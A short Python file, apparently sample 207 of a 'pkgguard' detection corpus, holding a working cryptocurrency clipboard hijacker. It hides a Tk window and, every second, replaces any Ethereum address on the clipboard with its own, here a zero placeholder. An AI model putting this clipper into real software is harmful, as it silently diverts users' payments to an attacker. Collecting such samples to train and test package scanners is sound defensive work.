# pkgguard corpus 207 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time
import tkinter as tk

ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
OURS = "0x" + "0" * 40
root = tk.Tk()
root.withdraw()
while True:
    try:
        text = root.clipboard_get()
    except tk.TclError:
        text = ""
    if ETH.match(text) and text != OURS:
        root.clipboard_clear()
        root.clipboard_append(OURS)
    root.update()
    time.sleep(1)
